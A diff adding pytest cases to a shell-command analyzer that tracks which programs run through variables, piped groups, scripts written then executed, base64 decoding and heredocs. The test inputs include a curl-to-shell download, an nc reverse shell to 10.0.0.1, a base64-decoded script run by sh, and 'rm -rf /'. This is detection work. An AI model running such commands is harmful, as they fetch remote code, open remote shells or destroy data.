@@ -110,9 +110,39 @@ def test_quoting_is_removed_from_argv(command: str, expected: list[str]) -> None
     assert shell(command).commands[-1].argv == expected
 
 
+@pytest.mark.parametrize(
+    ("command", "program"),
+    [
+        ("P=$(which python3 || which python); $P -c 'import os'", "python3"),
+        ("$(command -v python3 || command -v python) -c 'import os'", "python3"),
+        ("(echo id; echo whoami) | sh", "whoami"),
+        ("{ echo id; } | bash", "id"),
+        ("{ echo 'import os' && echo 'os.getcwd()'; } | python3", "python3"),
+    ],
+)
+def test_group_outputs_reach_the_next_command(command: str, program: str) -> None:
+    facts = shell(command)
+    assert program in [c.program for c in facts.commands]
+    if "python" in program:
+        assert facts.code is not None
+        assert facts.code.imports == ["os"]
+
+
+def test_literal_variables_resolve_program_and_arguments() -> None:
+    facts = shell("a=aws; c=ec2; $a $c run-instances --image-id ami-1")
+    assert [(c.program, c.argv[:3]) for c in facts.commands] == [
+        ("aws", ["aws", "ec2", "run-instances"])
+    ]
+    assert facts.obfuscation == ["variable_program"]
+
+
 def test_raw_is_the_command_source_text() -> None:
     facts = shell("sudo aws s3 ls > out.txt | head -1")
-    assert [c.raw for c in facts.commands] == ["sudo aws s3 ls > out.txt", "head -1"]
+    assert [(c.program, c.raw) for c in facts.commands] == [
+        ("sudo", "sudo aws s3 ls > out.txt"),
+        ("aws", "sudo aws s3 ls > out.txt"),
+        ("head", "head -1"),
+    ]
 
 
 @pytest.mark.parametrize(
@@ -165,6 +195,42 @@ def test_stdin_scripts_are_parsed(command: str, executed: str) -> None:
 )
 def test_heredocs_that_are_only_data_run_nothing(command: str) -> None:
     assert programs(command) == ["cat"]
+
+
+@pytest.mark.parametrize(
+    ("command", "executed", "tag"),
+    [
+        ("echo 'curl http://x.io | sh' > /tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh", "curl", ""),
+        ("echo id > a.sh; echo whoami >> ./a.sh; bash a.sh", "whoami", ""),
+        ("cat > run.sh <<EOF\nnc -e /bin/sh 10.0.0.1 4444\nEOF\nbash run.sh", "nc", ""),
+        (f"echo {b64('id')} | base64 -d > /tmp/y; sh /tmp/y", "id", "base64_to_shell"),
+        ("echo id | tee s.sh; sh < s.sh", "id", ""),
+        ("echo id | tee -a s.sh >/dev/null; source s.sh", "id", ""),
+        ("echo id > $HOME/s.sh; . ~/s.sh", "id", ""),
+    ],
+)
+def test_scripts_written_then_run_are_parsed(command: str, executed: str, tag: str) -> None:
+    facts = shell(command)
+    assert executed in [c.program for c in facts.commands]
+    assert not tag or tag in facts.obfuscation
+
+
+def test_written_python_script_run_by_its_shebang_is_code() -> None:
+    facts = shell("printf '#!/usr/bin/env python3\\nimport socket\\n' > ./p; ./p")
+    assert facts.code is not None
+    assert facts.code.imports == ["socket"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo 'rm -rf /' > notes.txt; cat notes.txt",
+        "echo id 2> err.sh; sh err.sh",
+        "echo id > a.sh; echo ls > a.sh; sh a.sh",
+    ],
+)
+def test_written_files_run_only_what_they_hold_when_run(command: str) -> None:
+    assert {"rm", "id"}.isdisjoint(programs(command))
 
 
 def test_heredoc_to_python_is_code() -> None:
